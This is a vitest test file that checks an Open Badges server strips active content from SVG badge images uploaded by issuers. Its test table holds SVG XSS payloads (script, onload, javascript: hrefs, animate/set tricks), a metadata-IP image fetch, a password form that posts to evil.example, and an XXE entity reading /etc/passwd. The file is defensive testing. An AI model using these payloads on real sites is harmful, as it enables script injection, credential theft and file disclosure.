import { DOMParser, type Element } from '@xmldom/xmldom';
import { describe, expect, it } from 'vitest';
import { DEV_ADMIN_TOKEN } from '../../src/server/middleware/issuer-auth';
import { unbake } from '../../src/server/openbadges/baking';
import { unique } from './helpers';
import { awardTo, b64, getHosted, issuerCall, newIssuer } from './issuing-helpers';

const SVG_NS = 'http://www.w3.org/2000/svg';
const XLINK_NS = 'http://www.w3.org/1999/xlink';
const OB_NS = 'http://openbadges.org';
const open = `<svg xmlns="${SVG_NS}" xmlns:xlink="${XLINK_NS}" viewBox="0 0 10 10">`;
const shape = '<circle cx="5" cy="5" r="4" fill="#0b5cad"/>';

/**
 * Issuer SVGs that carry something active. The first three the old regular expression refused;
 * the rest it let through (a namespace prefix, a character reference or an unlisted element was
 * enough), and baking kept them in every assertion image.
 */
const CASES: Record<string, string> = {
  script: `${open}<script>alert(1)</script>${shape}</svg>`,
  onload: `<svg xmlns="${SVG_NS}" onload="alert(1)">${shape}</svg>`,
  'external image': `${open}<image href="http://169.254.169.254/x"/>${shape}</svg>`,
  'namespaced script': `${open}<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>${shape}</svg>`,
  'set of an event attribute': `${open}<circle cx="5" cy="5" r="4"><set attributeName="onclick" to="alert(1)"/></circle></svg>`,
  'animate href to javascript:': `${open}<a href="#x"><animate attributeName="href" to="&#106;avascript:alert(1)"/>${shape}</a></svg>`,
  'use of a data: URL': `${open}<use href="data:image/svg+xml;base64,${btoa(`<svg xmlns="${SVG_NS}" onload="alert(1)"/>`)}"/>${shape}</svg>`,
  foreignObject: `${open}<s:foreignObject xmlns:s="${SVG_NS}" width="10" height="10"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="password"/><img src="https://evil.example/pixel.png"/></form></s:foreignObject>${shape}</svg>`,
  'url() in a style attribute': `${open}<circle cx="5" cy="5" r="4" style="fill:url(https://evil.example/track.svg#p);stroke:#000"/></svg>`,
  'url() in a style element': `${open}<style>circle{fill:url(https://evil.example/track.svg#p)}</style>${shape}</svg>`,
  'xlink:href to javascript:': `${open}<x:a xmlns:x="${SVG_NS}" xlink:href="&#106;avascript:alert(1)">${shape}</x:a></svg>`,
};

/** Everything that could act in a browser: scripts, handlers, foreign or animated content, references out. */
function activeParts(svg: string): string[] {
  const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
  const found: string[] = [];
  const walk = (el: Element) => {
    const inSvg = el.namespaceURI === SVG_NS || (el.namespaceURI === OB_NS && el.localName === 'assertion');
    if (!inSvg) found.push(`element {${el.namespaceURI}}${el.localName}`);
    if (/^(script|foreignObject|set|animate\w*|iframe|style)$/.test(el.localName ?? '')) {
      const css = el.localName === 'style' ? (el.textContent ?? '') : '';
      if (el.localName !== 'style' || /url\(\s*['"]?(?!#)/i.test(css)) found.push(`element ${el.localName}`);
    }
    for (const a of Array.from(el.attributes)) {
      const name = a.localName ?? a.name;
      if (/^on/i.test(name)) found.push(`handler ${a.name}`);
      if (name === 'href' && !a.value.trim().startsWith('#')) found.push(`href ${a.value}`);
      if (/url\(\s*['"]?(?!#)/i.test(a.value)) found.push(`url ${a.value}`);
      if (name === 'attributeName') found.push(`animation of ${a.value}`);
    }
    for (const child of Array.from(el.childNodes)) if (child.nodeType === 1) walk(child as Element);
  };
  if (doc.documentElement) walk(doc.documentElement);
  return found;
}

async function bakedSvgFor(svg: string) {
  const { apiKey } = await newIssuer();
  const created = await issuerCall('/badge-classes', apiKey, {
    name: `SVG ${unique('b')}`,
    description: 'd',
    criteria_narrative: 'c',
    image: b64(new TextEncoder().encode(svg)),
  });
  expect(created.res.status).toBe(200);
  const bc = created.json.badge_class_id as string;
  const { ids } = await awardTo(apiKey, bc, [`${unique('rcpt')}@example.test`]);
  const stored = await (await getHosted(`/BadgeClass/${bc}/image`, 'image/*')).text();
  const res = await getHosted(`/Assertion/${ids[0]}/image`, 'image/*');
  expect(res.headers.get('content-type')).toBe('image/svg+xml');
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { stored, baked: new TextDecoder().decode(bytes), unbaked: unbake(bytes), id: ids[0] as string };
}

describe('issuer SVGs are parsed and rebuilt from an allow-list (IMG-09, IMG-20)', () => {
  for (const [name, svg] of Object.entries(CASES)) {
    it(`${name}: accepted, and nothing active survives in the stored or the baked image`, async () => {
      expect(activeParts(svg)).not.toEqual([]);
      const { stored, baked, unbaked, id } = await bakedSvgFor(svg);
      expect(activeParts(stored)).toEqual([]);
      expect(activeParts(baked)).toEqual([]);
      // The shape the issuer drew is still there, and the badge still bakes and unbakes.
      expect(baked).toContain('<circle');
      expect(unbaked.verify).toBe(`http://127.0.0.1:8787/api/v1.0/openBadge/v2/Assertion/${id}`);
    });
  }

  it('an issuer profile image goes through the same rules', async () => {
    const { json } = await issuerCall('/issuers', DEV_ADMIN_TOKEN, {
      name: 'SVG Issuer',
      url: 'https://svg.example',
      email: 'badges@svg.example',
      image: b64(new TextEncoder().encode(CASES['namespaced script'] as string)),
    });
    const stored = await (await getHosted(`/Issuer/${json.issuer_id as string}/image`, 'image/*')).text();
    expect(activeParts(stored)).toEqual([]);
    expect(stored).toContain('<circle');
  });

  it('a DOCTYPE is still refused before any parsing (IMG-07)', async () => {
    const { apiKey } = await newIssuer();
    const xxe = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="${SVG_NS}"><text>&x;</text></svg>`;
    const { res, json } = await issuerCall('/badge-classes', apiKey, {
      name: 'n',
      description: 'd',
      criteria_narrative: 'c',
      image: b64(new TextEncoder().encode(xxe)),
    });
    expect(res.status).toBe(415);
    expect(json.errors).toMatchObject([{ code: 'E415101' }]);
  });
});
